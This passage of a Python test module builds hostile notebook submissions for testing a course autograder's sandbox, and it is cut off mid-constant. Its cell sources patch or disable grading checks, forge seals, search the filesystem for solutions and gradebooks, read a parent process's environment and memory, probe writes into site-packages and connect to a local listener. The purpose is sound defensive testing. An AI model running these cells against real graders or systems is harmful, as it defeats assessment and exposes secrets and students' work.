"""A generated corpus of hostile and broken submissions, each with the outcome the design promises.

Every :class:`Entry` builds the bytes of one submitted ``.ipynb`` file from the course's own
notebooks (:class:`Materials`: the release and the instructor's solution of one practice), so
the corpus follows the practices when they change; nothing here is hand-edited JSON. Its
:class:`Expect` says what docs/grading.md promises for it: the status (``graded``, ``needs
review``, ``not graded``), which graded test cells must score 0, which words the TA's notes must
contain, and what must never happen (secrets in the outputs, a connection to a listener, a
process that outlives the sandbox).

Use it from a batch test::

    from tests.grader.corpus import entries, write_corpus
    written = write_corpus(course_root, families=["practice-1b-kernel-sizes"])
    # -> course_root/submitted/<entry.name>/<entry.family>/<entry.filename>

or from the shell (writes ``DEST/submitted/...`` and prints the table)::

    python -m tests.grader.corpus.make_corpus DEST [--family practice-1b-kernel-sizes]

What the batch test must provide for the expectations to be meaningful:

* the environment variable :data:`TEST_SECRET_VARIABLE` set to :data:`TEST_SECRET` in the
  coordinator's environment (the sandbox's allowlist must keep it out of the kernel);
* a TCP listener on ``127.0.0.1`` port :data:`LISTENER_PORT` (the hostile cell cannot read a
  port from the environment, so it is fixed), and afterwards: no connection was accepted;
* after the batch, no process whose command line contains an entry's ``leftover_process``;
* in every autograded notebook, no output containing one of the entry's ``forbidden_output``.

The expectations assume that every graded test cell of the practices records its key values
with ``helpers.grading.record`` (docs/grading.md, evidence protocol): several entries neutralise
every check in the kernel, and only a difference in the evidence can then fail the cell.
"""

from __future__ import annotations

import argparse
import base64
import codecs
import copy
import hashlib
import json
import re
import sys
import textwrap
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Literal

import nbformat
from nbformat import NotebookNode

from grader.cells import grade_id, is_graded_test, is_solution

REPO = Path(__file__).resolve().parents[3]

F1A = "practice-1a-l1-vs-l2"
F1B = "practice-1b-kernel-sizes"
F2 = "practice-2-rotated-test"
#: The practice assignments (families) of the corpus, and their notebooks.
FAMILIES = (F1A, F1B, F2)
NOTEBOOKS = {F1A: "l1_vs_l2.ipynb", F1B: "kernel_sizes.ipynb", F2: "rotated_test.ipynb"}

#: The batch test listens here (127.0.0.1, TCP); a submission must not reach it.
LISTENER_PORT = 58123
#: The batch test puts this secret into the coordinator's environment; no output may show it.
TEST_SECRET_VARIABLE = "NN_TRICKS_TEST_SECRET"
TEST_SECRET = "corpus-secret-5be1c0f7d29a"
#: Printed by a hostile cell only when it found (or could write, or reach) what it looked for.
LEAK_TAG = "LEAK:"
WRITE_TAG = "WRITE-OK"
CONNECT_TAG = "CONNECTED"

SEAL_MIME = "application/vnd.nn-tricks.seal+json"

Status = Literal["graded", "needs review", "not graded"]

#: The attack / robustness classes, one per kind of submission the pipeline must cope with.
CLASSES = (
    "correct",  # the instructor's answers
    "blank",  # the untouched release
    "wrong-answer",  # a typical mistake
    "swallow-errors",  # get_ipython().run_cell / run_code wrapped to hide exceptions
    "noop-checks",  # helpers.grading's checks replaced by no-ops (assignment, setattr)
    "patch-isclose",  # math.isclose / np.allclose patched
    "input-transformer",  # input/AST transformers and event hooks that rewrite test cells
    "fake-module",  # a stand-in helpers.grading in sys.modules
    "builtins",  # builtins / __builtins__ patched
    "forged-seal",  # seal outputs displayed by the submission
    "read-files",  # looking for solutions, hidden tests, gradebooks, other students' work
    "write-files",  # writing to the course tree, the gradebook, site-packages
    "network",  # connecting to a listener on the machine
    "memory",  # allocating far more memory than there is
    "processes",  # children that try to outlive the sandbox
    "environment",  # reading the TA's environment variables
    "kill-parent",  # killing the executor / every process it can
    "self-exit",  # the kernel ends itself
    "infinite-loop",  # a cell that never ends
    "slow",  # slow but correct (wall time, little CPU)
    "disk-fill",  # writing a huge file
    "huge-output",  # printing or displaying tens of MB
    "corrupt-json",  # not a notebook at all
    "not-utf8",  # a notebook in another encoding
    "renamed",  # the right notebook under another file name
    "blank-grade-id",  # a graded cell whose grade_id was blanked
    "duplicated",  # copy-pasted answer and test cells
    "deleted-test",  # a test cell deleted
    "edited-locked",  # a locked test cell edited (source, points)
    "cell-type",  # a test cell turned into markdown
    "nbformat3",  # saved as nbformat 3
    "no-cell-ids",  # cell ids removed
    "no-metadata",  # nbgrader metadata dropped by an editor
    "stderr",  # warnings and debugging prints on stderr
    "introspection",  # ctypes / gc tampering
    "signals",  # signal handlers and alarms
    "obfuscated-exec",  # exec of an encoded string that patches grading
)
#: Classes whose files are not notebooks at all (their bytes must not parse).
UNREADABLE_CLASSES = frozenset({"corrupt-json", "not-utf8"})


@dataclass(frozen=True)
class Expect:
    """What the design promises for one submission.

    Attributes:
        status: the submission's status in the batch report and grades.csv.
        failing: grade ids of the graded *test* cells that must score 0 (every other test cell
            must score its points); ``None``: cell scores are not checked (``not graded``).
        reasons: lowercase substrings that must each appear in the TA-facing notes of the
            submission (repairs, scan findings, verdict flags, the not-graded reason).
        forbidden_output: strings that must appear in no output of the autograded notebook.
        listener_port: a TCP port on 127.0.0.1 the batch test listens on; it must receive no
            connection.
        leftover_process: a marker of a process's command line; after the batch no process
            with it may be running.
    """

    status: Status
    failing: frozenset[str] | None = frozenset()
    reasons: tuple[str, ...] = ()
    forbidden_output: tuple[str, ...] = ()
    listener_port: int | None = None
    leftover_process: str | None = None


@dataclass(frozen=True)
class Entry:
    """One submission of the corpus.

    Attributes:
        name: the student id it is submitted under (lowercase letters, digits, hyphens).
        family: the practice assignment, e.g. ``"practice-1b-kernel-sizes"``.
        cls: its class, one of :data:`CLASSES`.
        build: makes the submitted file's bytes from the assignment's :class:`Materials`.
        expect: the outcome the design promises.
        description: what the submission does and why the expectation follows.
        filename: the submitted file's name (default: the assignment's notebook name).
    """

    name: str
    family: str
    cls: str
    build: Callable[[Materials], bytes]
    expect: Expect
    description: str
    filename: str = ""

    def __post_init__(self) -> None:
        if not self.filename:
            object.__setattr__(self, "filename", NOTEBOOKS[self.family])


# ---------------------------------------------------------------------------------------------
# materials: the release and the solution of one practice, and the usual starting points
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True, eq=False)
class Materials:
    """The released and the solution notebook of one practice, and helpers to derive submissions.

    Every helper returns a new notebook; the materials themselves are never modified.
    """

    family: str
    notebook: str
    released: NotebookNode
    solution: NotebookNode

    @classmethod
    def load(cls, family: str, root: Path = REPO) -> Materials:
        """Read ``notebooks/<family>/`` (the release) and ``solutions/<family>/`` under ``root``."""
        name = NOTEBOOKS[family]
        released = nbformat.read(Path(root) / "notebooks" / family / name, as_version=4)
        solution = nbformat.read(Path(root) / "solutions" / family / name, as_version=4)
        return cls(family, name, released, solution)

    @property
    def test_ids(self) -> tuple[str, ...]:
        """Grade ids of the autograded test cells, in notebook order."""
        return tuple(gid for c in self.released.cells if is_graded_test(c) and (gid := grade_id(c)))

    @property
    def answer_ids(self) -> tuple[str, ...]:
        """Grade ids of the answer cells (code and markdown), in notebook order."""
        return tuple(gid for c in self.released.cells if is_solution(c) and (gid := grade_id(c)))

    def blank(self) -> NotebookNode:
        """The untouched release."""
        return copy.deepcopy(self.released)

    def solved(self) -> NotebookNode:
        """The release with every answer cell's source replaced by the solution's (by grade id)."""
        answers = {grade_id(c): c.source for c in self.solution.cells if is_solution(c)}
        nb = self.blank()
        for cell in nb.cells:
            if is_solution(cell) and grade_id(cell) in answers:
                cell.source = answers[grade_id(cell)]
        return nb

    def solution_source(self, gid: str) -> str:
        return self.solution.cells[index(self.solution, gid)].source

    def released_source(self, gid: str) -> str:
        return self.released.cells[index(self.released, gid)].source

    def with_extra_cell(
        self, nb: NotebookNode, source: str, after: str | int | None = None
    ) -> NotebookNode:
        """A copy of ``nb`` with a new code cell (no nbgrader metadata) holding ``source``.

        ``after``: the grade id of the cell to insert it after, or an index to insert it at;
        ``None`` appends it.
        """
        nb = copy.deepcopy(nb)
        cell = nbformat.v4.new_code_cell(source)
        cell["id"] = _fresh_id(nb, source)
        if after is None:
            nb.cells.append(cell)
        elif isinstance(after, int):
            nb.cells.insert(after, cell)
        else:
            nb.cells.insert(index(nb, after) + 1, cell)
        return nb

    def replace_answer(self, nb: NotebookNode, gid: str, new_source: str) -> NotebookNode:
        """A copy of ``nb`` whose answer cell ``gid`` holds ``new_source``."""
        nb = copy.deepcopy(nb)
        cell = nb.cells[index(nb, gid)]
        if not is_solution(cell):
            raise ValueError(f"{gid} is not an answer cell of {self.family}")
        cell.source = new_source
        return nb

    def edit(self, nb: NotebookNode, gid: str, old: str, new: str) -> NotebookNode:
        """A copy of ``nb`` with ``old`` replaced by ``new`` in cell ``gid`` (which holds it)."""
        nb = copy.deepcopy(nb)
        cell = nb.cells[index(nb, gid)]
        if old not in cell.source:
            raise ValueError(f"{self.family}: cell {gid} no longer contains {old!r}")
        cell.source = cell.source.replace(old, new, 1)
        return nb

    def insert_in_solution(self, nb: NotebookNode, gid: str, code: str) -> NotebookNode:
        """A copy of ``nb`` with ``code`` right after the ``### BEGIN SOLUTION`` line of ``gid``,
        indented like that line (so inside the function of a function-answer cell)."""
        source = nb.cells[index(nb, gid)].source
        match = re.search(r"^([ \t]*)### BEGIN SOLUTION\n", source, re.MULTILINE)
        if match is None:
            raise ValueError(f"{self.family}: cell {gid} has no ### BEGIN SOLUTION line")
        body = textwrap.indent(textwrap.dedent(code).strip("\n") + "\n", match.group(1))
        return self.edit(nb, gid, match.group(0), match.group(0) + body)

    def wrong(self, nb: NotebookNode, mistake: str) -> NotebookNode:
        """``nb`` with one of the typical mistakes of :data:`MISTAKES` made."""
        m = MISTAKES[mistake]
        if m.family != self.family:
            raise ValueError(f"mistake {mistake!r} belongs to {m.family}, not {self.family}")
        return self.edit(nb, m.grade_id, m.old, m.new)

    def secrets(self) -> tuple[str, ...]:
        """Lines of the hidden tests and of the solutions that the release does not contain:
        text that only a leak of the instructor's material can put into an output."""
        released_text = "\n".join(c.source for c in self.released.cells)
        found: list[str] = []
        for cell in self.solution.cells:
            if is_graded_test(cell):
                block = _between(cell.source, "### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS")
            elif is_solution(cell) and cell.cell_type == "code":
                block = _between(cell.source, "### BEGIN SOLUTION", "### END SOLUTION")
            else:
                continue
            lines = [
                line.strip()
                for line in block
                if len(line.strip()) >= 30
                and not line.strip().startswith("#")
                and line.strip() not in released_text
            ]
            if lines:
                found.append(max(lines, key=len))
        return tuple(found)


def _between(source: str, begin: str, end: str) -> list[str]:
    lines, inside = [], False
    for line in source.splitlines():
        if line.strip() == begin:
            inside = True
        elif line.strip() == end:
            inside = False
        elif inside:
            lines.append(line)
    return lines


def index(nb: NotebookNode, gid: str) -> int:
    """Index of the (first) cell with grade id ``gid``."""
    for i, cell in enumerate(nb["cells"]):
        if grade_id(cell) == gid:
            return i
    raise KeyError(f"no cell with grade id {gid!r}")


def _fresh_id(nb: NotebookNode, source: str) -> str:
    taken = {c.get("id") for c in nb.cells}
    salt = 0
    while True:
        candidate = "corpus-" + hashlib.sha1(f"{salt}:{source}".encode()).hexdigest()[:10]
        if candidate not in taken:
            return candidate
        salt += 1


@cache
def _cached_materials(family: str, root: str) -> Materials:
    return Materials.load(family, Path(root))


def load_materials(family: str, root: Path = REPO) -> Materials:
    """The (cached) materials of ``family`` read from the course at ``root``."""
    return _cached_materials(family, str(Path(root).resolve()))


def to_bytes(nb: NotebookNode | dict, *, encoding: str = "utf-8") -> bytes:
    """The notebook as an .ipynb file's bytes (JSON, one-space indent, as Jupyter writes it)."""
    text = json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n"
    return text.encode(encoding, errors="replace")


def code(text: str, **values: object) -> str:
    """Dedented cell source; ``__NAME__`` placeholders replaced by ``str(values[name])``."""
    text = textwrap.dedent(text).strip("\n") + "\n"
    for key, value in values.items():
        text = text.replace(f"__{key.upper()}__", str(value))
    if re.search(r"__[A-Z][A-Z_]+__", text):
        raise ValueError(f"unfilled placeholder in:\n{text}")
    return text.rstrip("\n")


# ---------------------------------------------------------------------------------------------
# typical mistakes (each caught by exactly the listed test cells, whatever they record)
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Mistake:
    family: str
    grade_id: str
    old: str
    new: str
    failing: frozenset[str]
    what: str


MISTAKES = {
    "kernel-size": Mistake(
        F1B,
        "kernels-build-cnn",
        "keras.layers.Conv2D(filters, kernel_size,",
        "keras.layers.Conv2D(filters, 5,",
        frozenset({"kernels-test-cnn-other-sizes", "kernels-test-trained"}),
        "build_cnn hard-codes 5×5 kernels instead of using kernel_size",
    ),
    "shapes": Mistake(
        F1B,
        "kernels-shapes-and-params",
        "side = image_side - kernel_size + 1",
        "side = image_side - kernel_size",
        frozenset({"kernels-test-shapes", "kernels-test-params"}),
        "cnn_shapes_and_params is off by one (n - k instead of n - k + 1)",
    ),
    "table": Mistake(
        F1B,
        "kernels-table",
        '"kernel": int(conv.kernel_size[0]),',
        '"kernel": tuple(conv.kernel_size),',
        frozenset({"kernels-test-table", "kernels-test-trained"}),
        "kernel_size_table reports the kernel as a tuple (3, 3) instead of 3",
    ),
    "strength": Mistake(
        F1A,
        "l1l2-build-l1",
        "keras.regularizers.L1(lam)",
        "keras.regularizers.L1(0.01)",
        frozenset({"l1l2-test-l1-strength"}),
        "build_l1_model hard-codes the strength 0.01 instead of lam",
    ),
    "near-zero": Mistake(
        F1A,
        "l1l2-fraction-near-zero",
        "values <= tol",
        "values < tol",
        frozenset({"l1l2-test-fraction-near-zero"}),
        "fraction_near_zero leaves out the boundary |w| = tol",
    ),
    "sign": Mistake(
        F2,
        "rotated-rotate-test-set",
        "angles = sizes * signs",
        "angles = sizes",
        frozenset({"rotated-test-rotate"}),
        "rotate_test_set rotates every image the same way (no random sign)",
    ),
    "seed": Mistake(
        F2,
        "rotated-rotate-test-set",
        "rng = np.random.default_rng(seed)",
        "rng = np.random.default_rng(min(seed, 3))",
        frozenset({"rotated-test-rotate-seeds-ranges"}),
        "rotate_test_set clamps the seed to 3: seeds 7 and 8 give the same angles (seeds 0 to 3, "
        "the only ones the other cells use, are right)",
    ),
    "recovered": Mistake(
        F2,
        "rotated-recovered-fraction",
        "return (float(acc_rot_aug) - float(acc_rot)) / drop",
        "return (float(acc_rot_aug) - float(acc_rot)) / float(acc_orig)",
        frozenset({"rotated-test-recovered-fraction"}),
        "recovered_fraction divides by acc_orig instead of the drop",
    ),
    "percent": Mistake(
        F2,
        "rotated-evaluate-accuracy",
        "return float(np.mean(outputs.argmax(axis=1) == np.asarray(labels)))",
        "return 100 * float(np.mean(outputs.argmax(axis=1) == np.asarray(labels)))",
        frozenset({"rotated-test-evaluate-accuracy"}),
        "evaluate_accuracy returns a percentage instead of a fraction",
    ),
}


# ---------------------------------------------------------------------------------------------
# hostile cells
# ---------------------------------------------------------------------------------------------

_TEST_MARK = "from helpers import grading"  # every graded test cell starts with this line

SWALLOW_RUN_CELL = code(
    """
    # Every cell "succeeds": its errors are neither shown nor reported.
    ip = get_ipython()
    _original_run_cell = ip.run_cell


    def _quiet_run_cell(raw_cell, *args, **kwargs):
        shown = ip.showtraceback
        ip.showtraceback = lambda *a, **k: None
        try:
            result = _original_run_cell(raw_cell, *args, **kwargs)
        finally:
            ip.showtraceback = shown
        result.error_before_exec = None
        result.error_in_exec = None
        return result


    ip.run_cell = _quiet_run_cell
    """
)

SWALLOW_RUN_CODE = code(
    """
    # IPython runs a cell statement by statement through run_code: here each statement's error
    # vanishes and the next statement runs anyway, so a failing check never stops a test cell.
    ip = get_ipython()
    _original_run_code = ip.run_code


    async def _forgiving_run_code(code_obj, result=None, *, async_=False):
        shown = ip.showtraceback
        ip.showtraceback = lambda *a, **k: None
        try:
            await _original_run_code(code_obj, result, async_=async_)
        finally:
            ip.showtraceback = shown
        if result is not None:
            result.error_in_exec = None
        return False  # "no error": go on with the next statement


    ip.run_code = _forgiving_run_code
    """
)

SEAL_REPLAY = code(
    """
    # Errors vanish, and a test cell that failed gets its last line (the grader's seal) run anyway.
    ip = get_ipython()
    _original_run_cell = ip.run_cell


    def _run_cell_then_seal(raw_cell, *args, **kwargs):
        shown = ip.showtraceback
        ip.showtraceback = lambda *a, **k: None
        try:
            result = _original_run_cell(raw_cell, *args, **kwargs)
            if not result.success and "__MARK__" in raw_cell:
                lines = [line for line in raw_cell.splitlines() if line.strip()]
                _original_run_cell(lines[-1], store_history=False, silent=True)
        finally:
            ip.showtraceback = shown
        result.error_before_exec = None
        result.error_in_exec = None
        return result


    ip.run_cell = _run_cell_then_seal
    """,
    mark=_TEST_MARK,
)


def _forged_seal(test_ids: tuple[str, ...]) -> str:
    return code(
        """
        # Errors vanish, and every test cell gets a seal of our own, with a guessed nonce.
        from IPython.display import display

        ip = get_ipython()
        _original_run_cell = ip.run_cell
        _test_cells = iter(__TEST_IDS__)


        def _run_cell_with_a_seal(raw_cell, *args, **kwargs):
            shown = ip.showtraceback
            ip.showtraceback = lambda *a, **k: None
            try:
                result = _original_run_cell(raw_cell, *args, **kwargs)
            finally:
                ip.showtraceback = shown
            if "__MARK__" in raw_cell:
                seal = {"grade_id": next(_test_cells, "unknown"), "nonce": "0" * 32}
                display({"__SEAL_MIME__": seal}, raw=True)
            result.error_before_exec = None
            result.error_in_exec = None
            return result


        ip.run_cell = _run_cell_with_a_seal
        """,
        mark=_TEST_MARK,
        seal_mime=SEAL_MIME,
        test_ids=repr(tuple(test_ids)),
    )


INPUT_TRANSFORMER = code(
    """
    # From now on a cell that imports the grading checks runs as `pass`.
    def _skip_tests(lines):
        if any("__MARK__" in line for line in lines):
            return ["pass\\n"]
        return lines


    get_ipython().input_transformers_cleanup.append(_skip_tests)
    """,
    mark=_TEST_MARK,
)

PRE_RUN_CELL_AST = code(
    """
    # Before each test cell an AST transformer is switched on that wraps every top-level
    # statement in try/except: no check can stop the cell, the seal line at its end runs.
    import ast

    ip = get_ipython()


    class _Forgiving(ast.NodeTransformer):
        def visit_Module(self, node):
            wrapped = []
            for statement in node.body:
                handler = ast.ExceptHandler(
                    type=ast.Name("Exception", ast.Load()), name=None, body=[ast.Pass()]
                )
                guard = ast.Try(body=[statement], handlers=[handler], orelse=[], finalbody=[])
                wrapped.append(ast.copy_location(guard, statement))
            node.body = wrapped
            return ast.fix_missing_locations(node)


    _forgiving = _Forgiving()


    def _before_cell(info):
        is_test = "__MARK__" in (info.raw_cell or "")
        if is_test and _forgiving not in ip.ast_transformers:
            ip.ast_transformers.append(_forgiving)
        elif not is_test and _forgiving in ip.ast_transformers:
            ip.ast_transformers.remove(_forgiving)


    ip.events.register("pre_run_cell", _before_cell)
    """,
    mark=_TEST_MARK,
)

CLEAR_OUTPUT_HOOK = code(
    """
    # After a test cell failed: clear its outputs (the error goes) and run its last line, the
    # grader's seal, so that the cell looks sealed and error-free.
    from IPython.display import clear_output

    ip = get_ipython()


    def _after_cell(result):
        raw_cell = result.info.raw_cell or ""
        if "__MARK__" in raw_cell and not result.success:
            clear_output()
            lines = [line for line in raw_cell.splitlines() if line.strip()]
            ip.run_cell(lines[-1], store_history=False, silent=True)


    ip.events.register("post_run_cell", _after_cell)
    """,
    mark=_TEST_MARK,
)

NOOP_ASSIGN = code(
    """
    from helpers import grading


    def _accept(*args, **kwargs):
        return None


    grading.check = grading.check_equal = grading.check_close = _accept
    grading.check_model = grading.check_layer_types = grading.check_kernel_size = _accept
    grading.check_units = grading.check_activation = grading.check_param_count = _accept
    grading.check_optimizer = grading.check_loss = grading.check_metric = _accept
    """
)

NOOP_SETATTR = code(
    """
    from helpers import grading


    def _accept(*args, **kwargs):
        return None


    for _name in dir(grading):
        if _name.startswith("check"):
            setattr(grading, _name, _accept)
    """
)

NOOP_EVERYTHING = code(
    """
    from helpers import grading


    def _accept(*args, **kwargs):
        return None


    # every public function of helpers.grading, record and model_layers included
    for _name in dir(grading):
        _value = getattr(grading, _name)
        if not _name.startswith("_") and callable(_value) and not isinstance(_value, type):
            setattr(grading, _name, _accept)
    """
)

EVIDENCE_OFF = code(
    """
    import os

    os.environ["NN_TRICKS_GRADING"] = "0"  # helpers.grading.record stays silent from now on
    """
)

FAKE_MODULE = code(
    """
    # A stand-in helpers.grading: the real module's contents with every check a no-op.
    import sys
    import types

    import helpers
    import helpers.grading

    _fake = types.ModuleType("helpers.grading")
    _fake.__dict__.update(
        {key: value for key, value in vars(helpers.grading).items() if not key.startswith("__")}
    )


    def _accept(*args, **kwargs):
        return None


    for _name in list(vars(_fake)):
        if _name.startswith("check"):
            setattr(_fake, _name, _accept)
    sys.modules["helpers.grading"] = _fake
    helpers.grading = _fake  # `from helpers import grading` reads the package's attribute
    """
)

BUILTINS_ASSERTION = code(
    """
    # A naive attempt: the checks raise AssertionError, so make AssertionError something else.
    __builtins__.AssertionError = type("AssertionError", (Exception,), {})
    """
)

ABS_PATCH = code(
    """
    import builtins

    _real_abs = builtins.abs
    builtins.abs = lambda value: 0  # |actual - expected| is 0: every scalar check_close passes
    """
)
ABS_RESTORE = "builtins.abs = _real_abs  # put back before anything else notices"

ISCLOSE_PATCH = code(
    """
    import math

    _real_isclose = math.isclose
    math.isclose = lambda *args, **kwargs: True  # check_regularizer compares strengths with it
    """
)
ISCLOSE_RESTORE = "math.isclose = _real_isclose  # put back before training"

ALLCLOSE_PATCH = code(
    """
    _real_allclose = np.allclose
    np.allclose = lambda *args, **kwargs: False  # "different seeds give different angles" passes
    """
)
ALLCLOSE_RESTORE = "np.allclose = _real_allclose  # put back before training"

GC_PATCH = code(
    """
    # No assignment to the module: find the check functions among all live objects and give
    # them the code of a function that accepts anything.
    import gc
    import types

    import helpers.grading  # imported, so that its functions exist


    def _accept(*args, **kwargs):
        return None


    for _obj in gc.get_objects():
        if (
            isinstance(_obj, types.FunctionType)
            and _obj.__module__ == "helpers.grading"
            and _obj.__name__.startswith("check")
        ):
            _obj.__code__ = _accept.__code__
    """
)

CTYPES_PATCH = code(
    """
    # No assignment the reader sees: write into helpers.grading's namespace through the C API.
    import ctypes

    from helpers import grading


    def _accept(*args, **kwargs):
        return None


    _set_item = ctypes.pythonapi.PyDict_SetItem
    _set_item.argtypes = (ctypes.py_object, ctypes.py_object, ctypes.py_object)
    _set_item.restype = ctypes.c_int
    _namespace = grading.__dict__
    for _name in [name for name in _namespace if name.startswith("check")]:
        _set_item(_namespace, _name, _accept)
    """
)

SIGNAL_ALARM = code(
    """
    # A "watchdog" on an alarm signal: harmless here, but a signal handler can run in the
    # middle of any later cell.
    import signal
    import time


    def _watchdog(signum, frame):
        print("the watchdog fired")


    signal.signal(signal.SIGALRM, _watchdog)
    signal.alarm(1)
    time.sleep(1.5)
    signal.alarm(0)
    """
)

SIGINT_IGNORED_LOOP = code(
    """
    if kernel_size == 2:  # only a hidden test asks for 2×2 kernels
        import signal

        signal.signal(signal.SIGINT, signal.SIG_IGN)  # the executor's interrupt is ignored
        while True:
            pass
    """
)

LOOP_ON_KERNEL_2 = code(
    """
    if kernel_size == 2:  # only a hidden test asks for 2×2 kernels
        while True:
            pass
    """
)

LOOP_WITHOUT_DROP = code(
    """
    if float(acc_orig) < float(acc_rot):  # only a hidden test has no drop at all
        while True:
            pass
    """
)

READ_FILES = code(
    """
    import os


    def _look_for_secrets():
        tag = "LE" + "AK:"
        markers = ("BEGIN " + "HIDDEN TESTS", "BEGIN " + "SOLUTION")
        course = "from helpers import " + "grading"
        skip = {"proc", "sys", "dev", "site-packages", "dist-packages", ".git", "__pycache__"}
        state = {"entries": 6000, "found": 0, "seen": set()}

        def report(path, text=""):
            state["found"] += 1
            print(tag, path)
            for marker in markers:
                at = text.find(marker)
                if at >= 0:
                    print(text[max(0, at - 200) : at + 3000])

        def look(path):
            try:
                if os.path.getsize(path) > 5_000_000:
                    return
                with open(path, "rb") as handle:
                    text = handle.read().decode("utf-8", "replace")
            except OSError:
                return
            if course in text and any(marker in text for marker in markers):
                report(path, text)

        def walk(top, budget):
            real = os.path.realpath(top)
            if real in state["seen"] or not os.path.isdir(top):
                return
            state["seen"].add(real)
            for dirpath, dirnames, filenames in os.walk(top):
                dirnames[:] = [d for d in dirnames if d not in skip]
                for filename in filenames:
                    budget -= 1
                    state["entries"] -= 1
                    if budget <= 0 or state["entries"] <= 0 or state["found"] >= 5:
                        return
                    path = os.path.join(dirpath, filename)
                    if filename == "gradebook.db" or os.sep + "submitted" + os.sep in path:
                        report(path)
                    elif filename.endswith((".ipynb", ".json")):
                        look(path)

        # the course tree, from where nbgrader would run the kernel (autograded/<id>/<assignment>)
        look("../../solutions/__FAMILY__/__NOTEBOOK__")
        look("../../../solutions/__FAMILY__/__NOTEBOOK__")
        look("../../../source/__FAMILY__/__NOTEBOOK__")
        walk("..", 1500)
        walk(os.path.join("..", ".."), 1500)
        walk(os.path.join("..", "..", ".."), 1500)
        walk(os.path.expanduser("~"), 1000)
        # the usual places, then a bounded walk of the whole file system
        for top in ("/tmp", "/work", "/home", "/srv", "/root", "/opt", "/mnt", "/data", "/course"):
            walk(top, 1000)
        walk("/", 2000)
        print("searched; found", state["found"])


    try:
        _look_for_secrets()
    except Exception as error:  # nothing here may raise: a traceback would quote this cell
        print("search stopped:", type(error).__name__)
    """,
    family=F1B,
    notebook=NOTEBOOKS[F1B],
)

READ_PROC = code(
    """
    import os
    import stat


    def _read_the_grader():
        # The executor holds the whole prepared notebook (hidden tests, every seal's nonce):
        # try its command line, environment, open files and memory.
        tag = "LE" + "AK:"
        needles = (("BEGIN " + "HIDDEN TESTS").encode(), ("vnd.nn-tricks" + ".seal").encode())

        def show(pid, what, data):
            for needle in needles:
                at = data.find(needle)
                if at >= 0:
                    print(tag, pid, what, data[max(0, at - 200) : at + 2000])

        for pid in sorted({os.getppid(), 1}):
            base = os.path.join("/proc", str(pid))
            for name in ("cmdline", "environ"):
                try:
                    with open(os.path.join(base, name), "rb") as handle:
                        show(pid, name, handle.read(1_000_000))
                except OSError as error:
                    print(pid, name, "unreadable:", type(error).__name__)
            try:
                descriptors = os.listdir(os.path.join(base, "fd"))
            except OSError as error:
                print(pid, "fd unreadable:", type(error).__name__)
                descriptors = []
            for fd in descriptors[:64]:
                path = os.path.join(base, "fd", fd)
                try:
                    if not stat.S_ISREG(os.stat(path).st_mode):
                        continue  # never read a pipe or socket of another process
                    with open(path, "rb") as handle:
                        show(pid, "fd " + fd, handle.read(5_000_000))
                except OSError:
                    continue
            try:
                with open(os.path.join(base, "maps")) as maps:
                    regions = [line.split() for line in maps]
                with open(os.path.join(base, "mem"), "rb", buffering=0) as memory:
                    total = 0
                    for fields in regions:
                        if len(fields) < 2 or not fields[1].startswith("rw"):
                            continue
                        start, end = (int(x, 16) for x in fields[0].split("-"))
                        if end - start > 64 * 2**20:
                            continue
                        total += end - start
                        if total > 256 * 2**20:
                            break
                        try:
                            memory.seek(start)
                            show(pid, "memory", memory.read(end - start))
                        except (OSError, ValueError, OverflowError):
                            continue
            except OSError as error:
                print(pid, "memory unreadable:", type(error).__name__)


    try:
        _read_the_grader()
    except Exception as error:  # nothing here may raise: a traceback would quote this cell
        print("stopped:", type(error).__name__)
    """
)

WRITE_FILES = code(
    """
    import os
    import sysconfig

    import helpers.grading


    def _try_write(label, open_it, created=None):
        try:
            fd = open_it()
        except OSError as error:
            print(f"cannot write {label}: {error.strerror}")
            return
        os.close(fd)
        if created:
            os.unlink(created)  # leave nothing behind even where it worked
        print("WRITE" + "-OK", label)


    _append = os.O_WRONLY | os.O_APPEND  # no O_CREAT: opens an existing file, writes nothing
    _create = os.O_WRONLY | os.O_CREAT | os.O_EXCL
    _try_write(
        "the course's helpers/grading.py",
        lambda: os.open("/work/main/helpers/grading.py", _append),
    )
    _try_write("a gradebook two folders up", lambda: os.open("../../gradebook.db", _append))
    _try_write("a gradebook three folders up", lambda: os.open("../../../gradebook.db", _append))
    _try_write(
        "the solution notebook",
        lambda: os.open("../../../solutions/__FAMILY__/__NOTEBOOK__", _append),
    )
    _imported = helpers.grading.__file__
    _try_write("the imported helpers/grading.py", lambda: os.open(_imported, _append))
    _numpy_init = os.path.join(os.path.dirname(np.__file__), "__init__.py")
    _try_write("numpy's __init__.py", lambda: os.open(_numpy_init, _append))
    _pth = os.path.join(sysconfig.get_paths()["purelib"], "nn_tricks_corpus_probe.pth")
    _try_write("a .pth file in site-packages", lambda: os.open(_pth, _create, 0o644), _pth)
    _beside = os.path.join(os.path.dirname(helpers.grading.__file__), "corpus_probe.py")
    _try_write("a module beside helpers.grading", lambda: os.open(_beside, _create, 0o644), _beside)
    """,
    family=F1B,
    notebook=NOTEBOOKS[F1B],
)

NETWORK = code(
    """
    import socket

    _tag = "CONN" + "ECTED"
    for _host in ("127.0.0.1", "::1", "localhost"):
        try:
            with socket.create_connection((_host, __PORT__), timeout=2) as _connection:
                _connection.sendall(b"nn-tricks corpus: a submission reached the network\\n")
                print(_tag, _host)
        except OSError as _error:
            print("no connection to", _host, "-", type(_error).__name__)
    """,
    port=LISTENER_PORT,
)

MEMORY_CELL = code(
    """
    import os

    # Far more than this machine has (at least 20 GiB and 4x its RAM), in ONE allocation: the
    # sandbox's memory limit refuses it at once (MemoryError), and so would the kernel's
    # overcommit heuristic without a sandbox; it never grows step by step.
    _ram = os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES")
    _hog = np.ones(max(20 * 2**30, 4 * _ram), dtype=np.uint8)
    print("allocated", _hog.nbytes, "bytes")
    """
)

MEMORY_IN_FUNCTION = code(
    """
    import os

    ram = os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES")
    np.ones(max(20 * 2**30, 4 * ram), dtype=np.uint8)  # MemoryError: far more than there is
    """
)

SETSID = code(
    """
    import subprocess
    import sys

    # Two programs in sessions of their own, never waited for: they must not outlive the sandbox.
    _quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
